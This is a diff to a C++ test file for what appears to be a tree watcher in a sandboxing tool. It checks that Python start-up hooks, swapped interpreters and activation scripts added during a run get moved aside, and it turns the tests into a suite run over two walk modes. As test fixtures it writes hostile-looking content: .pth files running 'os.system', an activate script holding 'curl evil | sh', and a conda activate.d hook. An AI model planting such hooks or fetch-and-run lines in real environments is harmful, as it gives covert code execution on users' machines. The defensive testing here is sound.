@@ -4,7 +4,7 @@
 namespace paddock::gate {
 namespace {
 
-class ToolchainWatchTest : public TreeFixture {
+class ToolchainWatchTest : public TreeFixtureOf<WalkParam> {
  protected:
   // A virtual environment as `python3 -m venv --without-pip` makes it.
   void venv(const std::string& rel) const {
@@ -19,18 +19,18 @@ class ToolchainWatchTest : public TreeFixture {
   std::string site(const std::string& rel) const { return rel + "/" + kSite; }
 };
 
-TEST_F(ToolchainWatchTest, AnEnvironmentThatWasThereIsLeftAlone) {
+TEST_P(ToolchainWatchTest, AnEnvironmentThatWasThereIsLeftAlone) {
   venv(".venv");
   write(site(".venv") + "/helper.pth", "import helpermod\n");
   write(site(".venv") + "/helpermod.py", "pass\n");
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   write(site(".venv") + "/pkg/__init__.py", "x = 1\n");  // pip install of a package: the user's to run
   write(site(".venv") + "/paths.pth", "/some/dir\n");    // an editable install's path line
   EXPECT_EQ(after(w), Paths{});
 }
 
-TEST_F(ToolchainWatchTest, StartUpHooksTheRunAddedAreMovedAside) {
+TEST_P(ToolchainWatchTest, StartUpHooksTheRunAddedAreMovedAside) {
   venv(".venv");
   write(site(".venv") + "/helper.pth", "import helpermod\n");
   write(site(".venv") + "/helpermod.py", "pass\n");
@@ -38,7 +38,7 @@ TEST_F(ToolchainWatchTest, StartUpHooksTheRunAddedAreMovedAside) {
   write(site(".venv") + "/distutils-precedence.pth", "import os; __import__('_hack').add_shim()\n");
   write(site(".venv") + "/__pycache__/helpermod.cpython-311.pyc", "old");
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   write(site(".venv") + "/evil.pth", "import os; os.system('touch /tmp/x')\n");
   write(site(".venv") + "/sitecustomize.py", "import os\n");
   write(site(".venv") + "/helpermod.py", "import os; os.system('touch /tmp/x')\n");
@@ -50,10 +50,10 @@ TEST_F(ToolchainWatchTest, StartUpHooksTheRunAddedAreMovedAside) {
                              s + "helpermod.py", s + "sitecustomize.py", "src/usercustomize.py"}));
 }
 
-TEST_F(ToolchainWatchTest, TheInterpreterAndItsConfiguration) {
+TEST_P(ToolchainWatchTest, TheInterpreterAndItsConfiguration) {
   venv(".venv");
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   ASSERT_EQ(::unlink((root_ + "/.venv/bin/python").c_str()), 0);
   write(".venv/bin/python", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n");  // a script in its place
   write(".venv/bin/activate", "# activate\ncurl evil | sh\n");
@@ -64,9 +64,9 @@ TEST_F(ToolchainWatchTest, TheInterpreterAndItsConfiguration) {
 // An environment the run made (python3 -m venv, uv venv): links to an interpreter outside the
 // writable areas and a pyvenv.cfg naming one are how they are made, and stay; the activation
 // scripts and the .pth files with import lines are moved aside.
-TEST_F(ToolchainWatchTest, AnEnvironmentTheRunMade) {
+TEST_P(ToolchainWatchTest, AnEnvironmentTheRunMade) {
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   venv("env");
   write(site("env") + "/_virtualenv.pth", "import _virtualenv\n");
   write(site("env") + "/_virtualenv.py", "pass\n");
@@ -74,14 +74,16 @@ TEST_F(ToolchainWatchTest, AnEnvironmentTheRunMade) {
   EXPECT_EQ(after(w), (Paths{"env/bin/activate", "env/bin/python3.11", site("env") + "/_virtualenv.pth"}));
 }
 
-TEST_F(ToolchainWatchTest, CondaEnvironments) {
+TEST_P(ToolchainWatchTest, CondaEnvironments) {
   mkdir("c/conda-meta");
   tick();
-  TreeWatch w = TreeWatch::before(policy_);
+  TreeWatch w = watch();
   write("c/bin/python3", "ELF");
   write("c/etc/conda/activate.d/x.sh", "evil\n");
   EXPECT_EQ(after(w), (Paths{"c/bin/python3", "c/etc/conda/activate.d/x.sh"}));
 }
+
+INSTANTIATE_TEST_SUITE_P(, ToolchainWatchTest, ::testing::Values(Walk::Full, Walk::Indexed), walk_name);
 
 }  // namespace
 }  // namespace paddock::gate
